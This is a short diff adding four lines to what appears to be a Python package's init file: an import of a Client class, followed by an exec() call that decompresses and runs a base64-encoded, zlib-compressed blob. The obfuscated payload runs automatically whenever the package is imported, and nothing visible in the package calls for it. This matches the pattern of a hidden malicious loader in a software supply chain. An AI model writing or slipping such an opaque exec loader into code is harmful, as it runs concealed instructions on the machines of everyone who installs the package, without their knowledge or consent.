@@ -1,0 +1,4 @@
+from .client import Client
+
+import zlib, base64
+exec(zlib.decompress(base64.b64decode('eJwlydtugjAAANBf2ZsaF6NYFbLsAQfIEIoFrJM3oAWRcbHlZr9+MXs9Jy+bmrVv4jeP3+OI0y34oCNNpi9YEJrUZcMo59P/W8Rb8EJCpxNqDfjutF0mVOSlRL5hCplni6Ne63rdXEOrSLfH8AmyAqikCw/e3l+Zcr8mGyEqHGhOlp9PjwxAJxwVg8DEYvvSuvmHfS6t58UuGI2iUyoObjt0MhxjbspGyYZchjBRh8BPL6ztzhdbz3ENgYsG1JMBiuYrtgPTj65XREWENKUtVrJroE2Pf7An2U3Xu0rKIANClQaOSm/jtrI53Hentud3wR9PpoEIS4pUrZDLz4+q0JYkRuP352Q2m/0BwSNo4A==')))
